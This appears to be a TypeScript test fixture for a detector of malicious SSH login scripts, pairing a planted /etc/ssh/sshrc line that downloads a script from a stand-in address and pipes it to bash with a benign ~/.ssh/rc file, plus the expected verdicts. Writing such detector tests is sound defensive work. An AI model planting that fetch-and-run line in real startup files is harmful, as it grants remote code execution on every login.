import type { Pair } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/etc/ssh/sshrc': '(curl -s http://203.0.113.5/k | bash) &\n',
    '/home/ann/.ssh/rc': 'xauth -q -\n',
  },
  blamed: [
    { path: '/etc/ssh/sshrc', line: 1, verdict: 'malicious', code: 'fetch-pipe-shell', attack: 'T1546.004' },
  ],
  passed: ['/home/ann/.ssh/rc'],
};
